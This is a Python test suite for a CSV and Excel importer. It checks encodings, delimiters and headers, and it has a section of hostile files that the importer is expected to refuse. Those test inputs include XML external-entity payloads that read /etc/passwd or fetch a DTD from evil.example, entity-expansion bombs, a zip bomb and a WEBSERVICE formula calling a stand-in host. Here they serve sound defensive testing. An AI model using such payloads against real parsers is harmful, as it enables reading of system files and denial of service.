"""Tables read from files as people have them, and files made to hurt."""

import datetime
import io
import itertools
import resource
import socket
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.reader.excel import ExcelReader
from openpyxl.utils import get_column_letter

from runtime.contracts import BadRequest, TooMuch
from runtime.exchange import sheets, workbook
from runtime.exchange.sheets import open_table, sheet_names

HEADER = "名称,金额"
SHEET = "xl/worksheets/sheet1.xml"
START = '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
END = "</sheetData></worksheet>"


def kept(folder: Path, content: bytes) -> Path:
    path = folder / "01a2"  # as uploads are kept: without an extension
    path.write_bytes(content)
    return path


def read(folder: Path, content: bytes, sheet: str = "") -> tuple[tuple[str, ...], list[tuple[Any, ...]]]:
    table = open_table(kept(folder, content), "a.bin", sheet)
    return table.header, [row for _, row in table.rows]


def book(*rows: list[Any], **more: Any) -> bytes:
    made = openpyxl.Workbook()
    for row in rows:
        made.active.append(row)
    for name, others in more.items():
        sheet = made.create_sheet(name)
        for row in others:
            sheet.append(row)
    content = io.BytesIO()
    made.save(content)
    return content.getvalue()


def with_part(content: bytes, name: str, part: bytes) -> bytes:
    """A workbook with one part in another's place."""
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new:
        for entry in {*old.namelist(), name}:
            new.writestr(entry, part if entry == name else old.read(entry))
    return made.getvalue()


def with_strings(*strings: bytes) -> bytes:
    """A workbook whose one cell is the first of its shared strings."""
    sheet = START + '<row r="1"><c r="A1" t="s"><v>0</v></c></row>' + END
    part = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">' + b"".join(strings) + b"</sst>"
    content = with_part(with_part(book(["x"]), SHEET, sheet.encode()), "xl/sharedStrings.xml", part)
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
    entry = f'<Override PartName="/xl/sharedStrings.xml" ContentType="{kind}"/></Types>'
    types = zipfile.ZipFile(io.BytesIO(content)).read("[Content_Types].xml").decode()
    return with_part(content, "[Content_Types].xml", types.replace("</Types>", entry).encode())


# --- CSV -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030", "utf-16"])
def test_csv_is_read_in_the_encodings_that_excel_writes(tmp_path: Path, encoding: str) -> None:
    header, rows = read(tmp_path, f"{HEADER}\r\n上海𠮷田,1\r\n".encode(encoding))
    assert (header, rows) == (("名称", "金额"), [("上海𠮷田", "1")])


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_the_delimiter_is_seen_in_the_header(tmp_path: Path, delimiter: str) -> None:
    text = f'名称{delimiter}金额{delimiter}备注\n"甲{delimiter}乙"{delimiter}1{delimiter}"两\n行"\n'
    assert read(tmp_path, text.encode())[1] == [(f"甲{delimiter}乙", "1", "两\n行")]


def test_blank_rows_are_passed_over_and_blank_cells_are_none(tmp_path: Path) -> None:
    header, rows = read(tmp_path, f"\n ,\n{HEADER}\n\n甲, \n,,\n ,2\n".encode())
    assert (header, rows) == (("名称", "金额"), [("甲",), (None, "2")])


def test_headers_alike_are_numbered_and_those_at_the_end_without_a_name_are_dropped(tmp_path: Path) -> None:
    header, _ = read(tmp_path, "电话,电话,,电话, 省/自治区 ,,\n1,2,3,4,5\n".encode())
    assert header == ("电话", "电话 2", "", "电话 3", "省/自治区")


def test_a_row_may_be_shorter_or_longer_than_the_header(tmp_path: Path) -> None:
    assert read(tmp_path, f"{HEADER}\n甲\n乙,1,2\n".encode())[1] == [("甲",), ("乙", "1", "2")]


@pytest.mark.parametrize("content", [b"", b"\n\n , ,\n", b"\x00\x01", b"PK\x03\x04", b"\xd0\xcf\x11\xe0" * 200])
def test_what_holds_no_table_is_refused(tmp_path: Path, content: bytes) -> None:
    with pytest.raises(BadRequest):
        read(tmp_path, content)


def test_bytes_that_are_no_text_are_refused(tmp_path: Path) -> None:
    for content in (b"\xff\xfe\x00\xd8\x00", "名称\n".encode() + b"\xff\xff\xff"):
        with pytest.raises(BadRequest):
            read(tmp_path, content)


# --- workbooks -----------------------------------------------------------------------------------


def test_a_workbook_gives_excels_own_types(tmp_path: Path) -> None:
    moment = datetime.datetime(2019, 3, 1, 8, 30)
    content = book(["名称", "日期", "金额", "好"], ["甲", moment, 12.5, True], [None, None, 3, None])
    assert read(tmp_path, content)[1] == [("甲", moment, 12.5, True), (None, None, 3)]


def test_a_formula_gives_the_value_that_was_kept_with_it(tmp_path: Path) -> None:
    sheet = START + '<row r="1"><c r="A1" t="inlineStr"><is><t>和</t></is></c></row>'
    sheet += '<row r="2"><c r="A2"><f>WEBSERVICE("http://evil.example")</f><v>42</v></c></row>' + END
    assert read(tmp_path, with_part(book(["x"]), SHEET, sheet.encode())) == (("和",), [(42,)])


def test_a_sheet_is_chosen_by_name_and_the_first_is_the_usual_one(tmp_path: Path) -> None:
    content = book(["一"], [1], 退货=[["二"], [2]])
    assert read(tmp_path, content) == (("一",), [(1,)])
    assert read(tmp_path, content, "退货") == (("二",), [(2,)])
    assert sheet_names(kept(tmp_path, content)) == ["Sheet", "退货"]
    with pytest.raises(BadRequest):
        read(tmp_path, content, "没有")


def test_a_csv_has_no_sheets(tmp_path: Path) -> None:
    assert sheet_names(kept(tmp_path, b"a,b\n")) == []


# --- files made to hurt --------------------------------------------------------------------------


def test_t29_a_workbook_that_swells_is_refused_before_it_is_unpacked(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    bomb = with_part(book(["x"]), SHEET, START.encode() + b" " * (64 * 2**20) + END.encode())
    monkeypatch.setattr(zipfile.ZipFile, "open", lambda *args, **kwargs: pytest.fail("it was unpacked"))
    with pytest.raises(TooMuch):
        read(tmp_path, bomb)


def test_t29_one_cell_in_the_farthest_corner_costs_nothing(tmp_path: Path) -> None:
    sheet = START + '<row r="1"><c r="A1"><v>1</v></c></row>'
    sheet += '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>' + END
    content = with_part(book(["x"]), SHEET, sheet.encode())
    assert len(content) < 8_000
    assert read(tmp_path, content) == (("1",), [])


def test_t29_columns_past_the_bound_are_refused(tmp_path: Path) -> None:
    cells = "".join(f'<c r="{get_column_letter(column)}1"><v>1</v></c>' for column in range(1, 16_385))
    wide = with_part(book(["x"]), SHEET, (START + f'<row r="1">{cells}</row>' + END).encode())
    for content in (wide, b"a," * 16_384 + b"a\n", b"a\n" + b"1," * 16_384 + b"1\n"):
        with pytest.raises(TooMuch):
            read(tmp_path, content)


def test_t29_rows_past_the_bound_are_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sheets, "MAX_ROWS", 3)
    assert len(read(tmp_path, b"a\n" + b"1\n" * 3)[1]) == 3
    with pytest.raises(TooMuch):
        read(tmp_path, b"a\n" + b"1\n" * 4)


def test_t29_no_row_of_a_csv_fills_the_memory(tmp_path: Path) -> None:
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    for content in (b"a\n" + b"," * (20 * 2**20), b"a\n" + b'"\n",' * (4 * 2**20), b"a\n" + b"x" * (20 * 2**20)):
        with pytest.raises((TooMuch, BadRequest)):
            read(tmp_path, content)
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 100 * 1024


@pytest.mark.parametrize(
    "entity",
    [
        '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>',
        '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://evil.example/x.dtd"> %a;]>',
    ],
)
@pytest.mark.parametrize("part", [SHEET, "xl/workbook.xml", "[Content_Types].xml", "xl/styles.xml"])
def test_t29_entities_are_refused(tmp_path: Path, entity: str, part: str) -> None:
    content = book(["x"])
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        text = archive.read(part).decode()
    head, found, rest = text.rpartition("?>")
    with pytest.raises(BadRequest):
        read(tmp_path, with_part(content, part, f"{head}{found}{entity}{rest}".encode()))


def test_t29_a_document_type_elsewhere_is_not_fetched(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(socket, "create_connection", lambda *args, **kwargs: pytest.fail("it was fetched"))
    sheet = START.replace("<worksheet", '<!DOCTYPE worksheet SYSTEM "http://evil.example/x.dtd"><worksheet', 1)
    content = with_part(book(["x"]), SHEET, (sheet + '<row r="1"><c r="A1"><v>1</v></c></row>' + END).encode())
    assert read(tmp_path, content) == (("1",), [])


def test_t29_an_encrypted_workbook_is_refused_in_words(tmp_path: Path) -> None:
    with pytest.raises(BadRequest, match="password"):
        read(tmp_path, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"EncryptedPackage".ljust(4096, b"\x00"))


def test_t29_an_encrypted_part_is_refused(tmp_path: Path) -> None:
    content = bytearray(book(["x"], [1]))
    for place in _all(bytes(content), b"PK\x01\x02"):
        content[place + 8] |= 1
    with pytest.raises(BadRequest):
        read(tmp_path, bytes(content))


def test_t29_macros_stay_where_they_are(tmp_path: Path) -> None:
    content = with_part(book(["名称"], ["甲"]), "xl/vbaProject.bin", b"Sub Auto_Open()")
    types = zipfile.ZipFile(io.BytesIO(content)).read("[Content_Types].xml").decode()
    plain = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    macros = types.replace(plain, "application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    assert read(tmp_path, with_part(content, "[Content_Types].xml", macros.encode())) == (("名称",), [("甲",)])


def test_t29_a_damaged_part_is_refused_where_it_is_met(tmp_path: Path) -> None:
    content = bytearray(book(["名称"], *([f"客户{number}"] for number in range(200))))
    place = bytes(content).find(b"xl/worksheets/sheet1.xml")
    content[place + 60 : place + 70] = b"\xff" * 10
    with pytest.raises(BadRequest):
        read(tmp_path, bytes(content))


def test_t29_what_is_read_whole_is_bounded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    content = with_strings(b"<si><t>\xe7\x94\xb2</t></si>")
    for bound in ("MAX_PART", "MAX_STRINGS", "MAX_TAGS", "MAX_OPENED"):
        with monkeypatch.context() as patch:
            patch.setattr(workbook, bound, 3)
            with pytest.raises(TooMuch):
                read(tmp_path, content)
    assert read(tmp_path, content) == (("甲",), [])


def test_t29_a_million_tiny_strings_are_refused_before_they_are_kept(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(ExcelReader, "read_strings", lambda reader: pytest.fail("they were read"))
    with pytest.raises(TooMuch):
        read(tmp_path, with_strings(*(b"<si>%d</si>" % number for number in range(1_000_000))))


def test_a_file_larger_than_the_bound_is_not_opened(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sheets, "MAX_BYTES", 10)
    with pytest.raises(TooMuch):
        read(tmp_path, b"a\n" * 20)


def test_rows_are_read_as_they_are_asked_for(tmp_path: Path) -> None:
    rows = open_table(kept(tmp_path, b"a\n" + b"1\n" * 100_000), "a.csv").rows
    assert list(itertools.islice(rows, 2)) == [(2, ("1",)), (3, ("1",))]


def test_rows_have_the_numbers_that_a_spreadsheet_shows(tmp_path: Path) -> None:
    text = kept(tmp_path, '\n名称\n"甲\n乙"\n\n丙\n'.encode())
    assert [number for number, _ in open_table(text, "a.csv").rows] == [3, 5]
    sheet = kept(tmp_path, book([], ["名称"], ["甲"], [], ["丙"]))
    assert [number for number, _ in open_table(sheet, "a.xlsx").rows] == [3, 5]


def _all(content: bytes, mark: bytes) -> list[int]:
    return [place for place in range(len(content)) if content.startswith(mark, place)]
